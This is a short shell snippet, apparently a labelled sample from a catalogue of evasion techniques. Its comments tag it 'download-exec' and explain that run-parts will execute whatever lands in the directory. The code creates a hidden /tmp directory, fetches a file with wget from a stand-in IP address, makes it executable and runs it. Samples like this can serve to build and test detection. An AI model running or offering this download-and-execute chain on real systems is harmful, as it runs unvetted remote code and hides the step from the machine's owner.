# evasion: run-parts executes every executable file in a directory; the file arrives by wget into that directory
# grade: medium; does: download-exec
dir=/tmp/.hooks.d
mkdir -p "$dir"
wget -q -O "$dir/50update" http://203.0.113.90/hook
chmod 755 "$dir/50update"
run-parts "$dir"
